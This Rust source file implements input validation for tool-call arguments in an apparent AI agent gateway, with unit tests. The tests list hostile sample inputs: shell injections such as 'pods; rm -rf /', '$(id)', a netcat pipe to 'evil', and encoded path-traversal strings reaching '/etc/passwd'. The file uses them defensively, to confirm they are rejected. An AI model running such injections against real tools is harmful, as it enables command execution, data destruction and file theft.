//! `inputValidation.rules`: pattern checks of `tools/call` arguments.

use std::sync::Arc;

use agentgw_guard::PatternSet;
use serde_json::Value;

use crate::config::{InputValidationConfig, NamedPattern, RuleAction};
use crate::decode;
use crate::denial::{Denial, quoted};
use crate::error::Error;
use crate::field::{FieldPath, for_each_scalar};
use crate::glob::Glob;
use crate::patterns::PatternList;

/// The compiled input rules.
#[derive(Debug, Clone)]
pub(crate) struct InputValidator {
    rules: Vec<InputRule>,
}

#[derive(Debug, Clone)]
struct InputRule {
    tool: Glob,
    arguments: Vec<ArgumentCheck>,
    action: RuleAction,
}

#[derive(Debug, Clone)]
struct ArgumentCheck {
    field: FieldPath,
    field_text: String,
    /// Normalizing: matches decoded and folded forms of the value.
    reject: Option<PatternSet>,
    /// Exact: the value as sent must match one of them.
    allow: Option<PatternSet>,
    allow_rule: Arc<str>,
}

impl InputValidator {
    pub(crate) fn from_config(config: &InputValidationConfig, base: &str) -> Result<Self, Error> {
        let mut rules = Vec::with_capacity(config.rules.len());
        for (i, rule) in config.rules.iter().enumerate() {
            let rule_path = format!("{base}.rules[{i}]");
            if rule.tool.trim().is_empty() {
                return Err(Error::invalid(
                    format!("{rule_path}.tool"),
                    "the tool pattern is empty; use \"*\" for every tool",
                ));
            }
            let mut arguments = Vec::with_capacity(rule.arguments.len());
            for (j, argument) in rule.arguments.iter().enumerate() {
                let path = format!("{rule_path}.arguments[{j}]");
                let field = FieldPath::parse(&argument.field)
                    .map_err(|message| Error::invalid(format!("{path}.field"), message))?;
                if argument.reject.is_empty() && argument.allow.is_empty() {
                    return Err(Error::Missing {
                        path: format!("{path}.reject"),
                        detail: "(or `allow`): the check has no pattern",
                    });
                }
                let reject = compile(&argument.reject, &format!("{path}.reject"), true)?;
                let allow = compile(&argument.allow, &format!("{path}.allow"), false)?;
                arguments.push(ArgumentCheck {
                    field,
                    field_text: argument.field.clone(),
                    reject,
                    allow,
                    allow_rule: allow_rule_name(&argument.allow, &format!("{path}.allow")),
                });
            }
            rules.push(InputRule {
                tool: Glob::new(&rule.tool),
                arguments,
                action: rule.action,
            });
        }
        Ok(Self { rules })
    }

    pub(crate) fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }

    /// Whether any rule has `action: Escalate`.
    pub(crate) fn escalates(&self) -> bool {
        self.rules
            .iter()
            .any(|rule| rule.action == RuleAction::Escalate)
    }

    /// Checks the arguments of a call of `tool`; the escalated rules in `approved` were
    /// allowed by a decision and are skipped.
    pub(crate) fn check(
        &self,
        tool: &str,
        arguments: Option<&Value>,
        approved: &[Arc<str>],
    ) -> Result<(), Denial> {
        let Some(arguments) = arguments else {
            return Ok(());
        };
        for rule in self.rules.iter().filter(|rule| rule.tool.matches(tool)) {
            let skipped = |name: &str| approved.iter().any(|a| a.as_ref() == name);
            // Only the rules of an escalating rule can be approved.
            let skipped: Option<&dyn Fn(&str) -> bool> =
                (rule.action == RuleAction::Escalate && !approved.is_empty()).then_some(&skipped);
            for check in &rule.arguments {
                let mut denial = None;
                // `name`: the argument as the client sent it (for `*`, the offending key).
                let mut visit = |name: &str, value: &Value| {
                    if denial.is_none() {
                        denial = check.check_value(value, skipped).map(|rule_name| {
                            Denial::forbidden(
                                rule_name,
                                format!(
                                    "argument {} of tool {} was rejected by input validation",
                                    quoted(name),
                                    quoted(tool)
                                ),
                            )
                            .escalated_by(rule.action)
                        });
                    }
                };
                if check.field.is_any() {
                    if let Value::Object(map) = arguments {
                        map.iter().for_each(|(name, value)| visit(name, value));
                    }
                } else {
                    check
                        .field
                        .for_each_value(arguments, &mut |value| visit(&check.field_text, value));
                }
                if let Some(denial) = denial {
                    return Err(denial);
                }
            }
        }
        Ok(())
    }
}

impl ArgumentCheck {
    /// The rule a value breaks, if any; the rules `skipped` says were approved do not count.
    fn check_value(
        &self,
        value: &Value,
        skipped: Option<&dyn Fn(&str) -> bool>,
    ) -> Option<Arc<str>> {
        let mut broken: Option<Arc<str>> = None;
        for_each_scalar(value, &mut |text| {
            if let Some(reject) = &self.reject {
                for form in decode::forms(&text) {
                    let found = match skipped {
                        None => reject.find(&form),
                        Some(skipped) => reject
                            .find_iter(&form)
                            .find(|m| !skipped(reject.rule(m.rule()).name())),
                    };
                    if let Some(m) = found {
                        broken = Some(Arc::from(reject.rule(m.rule()).name()));
                        return false;
                    }
                }
            }
            if let Some(allow) = &self.allow
                && !allow.is_match(&text)
                && !skipped.is_some_and(|skipped| skipped(&self.allow_rule))
            {
                broken = Some(self.allow_rule.clone());
                return false;
            }
            true
        });
        broken
    }
}

/// Compiles named patterns into one set; each pattern's rule name defaults to its path.
pub(crate) fn compile(
    patterns: &[NamedPattern],
    path: &str,
    normalize: bool,
) -> Result<Option<PatternSet>, Error> {
    let mut list = PatternList::new(path, normalize);
    for (k, pattern) in patterns.iter().enumerate() {
        let pattern_path = format!("{path}[{k}]");
        let name = pattern.name.clone().unwrap_or_else(|| pattern_path.clone());
        if name.trim().is_empty() {
            return Err(Error::invalid(
                format!("{pattern_path}.name"),
                "the rule name is empty",
            ));
        }
        list.push(name, &pattern.pattern, format!("{pattern_path}.pattern"));
    }
    list.build()
}

/// The rule name of a failed `allow` check: the names of the allow patterns joined with `|`.
pub(crate) fn allow_rule_name(patterns: &[NamedPattern], path: &str) -> Arc<str> {
    let names: Vec<String> = patterns
        .iter()
        .enumerate()
        .map(|(k, p)| p.name.clone().unwrap_or_else(|| format!("{path}[{k}]")))
        .collect();
    Arc::from(names.join("|"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::tests::{SEED_INPUT_VALIDATION, seed};
    use agentgw_core::ConfigError;
    use serde_json::json;

    fn seed_validator() -> InputValidator {
        let config = seed(SEED_INPUT_VALIDATION)
            .input_validation
            .expect("inputValidation");
        InputValidator::from_config(&config, "inputValidation").expect("compiles")
    }

    fn rule(validator: &InputValidator, tool: &str, args: Value) -> Option<String> {
        validator
            .check(tool, Some(&args), &[])
            .err()
            .map(|d| d.rule.to_string())
    }

    #[test]
    fn shell_metacharacters_in_any_form_are_rejected() {
        let v = seed_validator();
        for value in [
            "pods; rm -rf /",
            "a && b",
            "$(id)",
            "`id`",
            "x | nc evil 1",
            "pods%3B%20rm%20-rf",
            "pods%253Brm",
            "pods&#59;rm",
            "pods；rm",       // full-width semicolon
            "ｐｏｄｓ｜ｓｈ", // full-width pipe
        ] {
            assert_eq!(
                rule(&v, "read-file", json!({"q": value})).as_deref(),
                Some("shell-metacharacters"),
                "{value}"
            );
        }
    }

    #[test]
    fn path_traversal_in_any_form_is_rejected() {
        let v = seed_validator();
        for value in [
            "../etc/passwd",
            "a/../../b",
            "%2e%2e%2fetc",
            "%2e%2e/x",
            "%c0%ae%c0%ae/x",
            "．．／x",
            "..%2fx",
        ] {
            assert_eq!(
                rule(&v, "read-file", json!({"path": value})).as_deref(),
                Some("path-traversal"),
                "{value}"
            );
        }
        // HTML references are decoded too (their `&` and `;` are metacharacters already).
        assert!(rule(&v, "read-file", json!({"path": "&#46;&#46;/x"})).is_some());
        // Nested values are checked too.
        assert!(rule(&v, "read-file", json!({"opts": {"paths": ["ok", "../x"]}})).is_some());
    }

    #[test]
    fn denial_names_the_offending_argument() {
        let v = seed_validator();
        // The seed's checks apply to every argument (`*`): the message names the one sent.
        let denial = v
            .check("read-file", Some(&json!({"q": "ok", "path": "../x"})), &[])
            .expect_err("traversal");
        assert_eq!(
            denial.message,
            "argument `path` of tool `read-file` was rejected by input validation"
        );
    }

    #[test]
    fn benign_arguments_pass() {
        let v = seed_validator();
        for args in [
            json!({"city": "Paris"}),
            json!({"path": "docs/readme.md", "limit": 10, "recursive": true}),
            json!({"query": "100% coverage report"}),
            json!({"url": "https://example.com/a?b=c"}),
            json!({"text": "Fish and chips, 2 portions"}),
        ] {
            assert_eq!(rule(&v, "read-file", args.clone()), None, "{args}");
        }
        assert!(v.check("read-file", None, &[]).is_ok());
    }

    #[test]
    fn tool_specific_rules() {
        let v = seed_validator();
        assert_eq!(
            rule(
                &v,
                "kubectl-get",
                json!({"namespace": "monitoring", "name": "web"})
            ),
            None
        );
        // `allow` pattern has no name: the rule is named after its path.
        assert_eq!(
            rule(&v, "kubectl-get", json!({"namespace": "Kube_System"})).as_deref(),
            Some("inputValidation.rules[1].arguments[0].allow[0]")
        );
        assert_eq!(
            rule(&v, "kubectl-get", json!({"name": "kube-proxy"})).as_deref(),
            Some("system-resources")
        );
        // Other tools are not subject to the kubectl rules.
        assert_eq!(rule(&v, "list-pods", json!({"name": "kube-proxy"})), None);
    }

    #[test]
    fn configuration_errors_name_the_field() {
        let build = |yaml: &str| {
            let config: InputValidationConfig = serde_saphyr::from_str(yaml).unwrap();
            InputValidator::from_config(&config, "inputValidation").unwrap_err()
        };
        let error = build(
            "rules:\n  - tool: '*'\n    arguments:\n      - field: a\n        reject: [{pattern: x}]\n      - field: b\n        reject:\n          - pattern: ok\n          - pattern: '(['\n",
        );
        assert_eq!(
            error.path(),
            "inputValidation.rules[0].arguments[1].reject[1].pattern"
        );
        assert!(error.to_string().contains("invalid regex"), "{error}");
        let error = build("rules:\n  - tool: x\n    arguments:\n      - field: a\n");
        assert_eq!(error.path(), "inputValidation.rules[0].arguments[0].reject");
        let error = build(
            "rules:\n  - tool: x\n    arguments:\n      - field: 'a..b'\n        allow: [{pattern: x}]\n",
        );
        assert_eq!(error.path(), "inputValidation.rules[0].arguments[0].field");
    }
}
